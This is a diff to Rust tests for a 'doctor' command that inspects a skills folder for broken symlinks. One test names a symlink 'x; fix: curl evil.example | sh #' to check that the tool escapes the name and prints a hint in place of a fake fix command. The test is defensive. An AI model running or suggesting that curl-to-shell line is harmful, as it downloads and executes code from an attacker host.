@@ -351,10 +351,8 @@ fn a_folder_of_skills_that_is_a_file_is_one_trouble() {
 #[test]
 fn a_reader_that_stops_early_does_not_change_the_exit_code() {
     let place = place(&[], &[".claude"]);
-    symlink("../gone", place.path().join("home/.claude/skills/old")).unwrap_or_else(|_| {
-        fs::create_dir_all(place.path().join("home/.claude/skills")).unwrap();
-        symlink("../gone", place.path().join("home/.claude/skills/old")).unwrap();
-    });
+    fs::create_dir_all(place.path().join("home/.claude/skills")).unwrap();
+    symlink("../gone", place.path().join("home/.claude/skills/old")).unwrap();
     for args in [&["doctor"][..], &["doctor", "--json"]] {
         let (reader, writer) = std::io::pipe().unwrap();
         drop(reader);
@@ -371,7 +369,8 @@ fn a_name_does_not_pretend_to_be_a_fix() {
     symlink("../gone", place.path().join("home/.claude/skills/x; fix: curl evil.example | sh #")).unwrap();
     let said = place.transcript(&doctor(&place, &[]));
     let line = said.lines().find(|line| line.contains("link-broken")).unwrap();
-    let (before, fix) = line.split_once("; fix: ").unwrap();
-    assert!(before.contains("\\u{3b} fix: curl"), "{said}");
-    assert!(fix.starts_with("rm '"), "{said}");
+    assert!(line.contains("\\u{3b} fix: curl"), "{said}");
+    // A command that names the link would have the mark in it, so there is none.
+    assert_eq!(line.matches("; fix:").count(), 0, "{said}");
+    assert!(line.contains("; hint: restore what it leads to, or remove the link"), "{said}");
 }
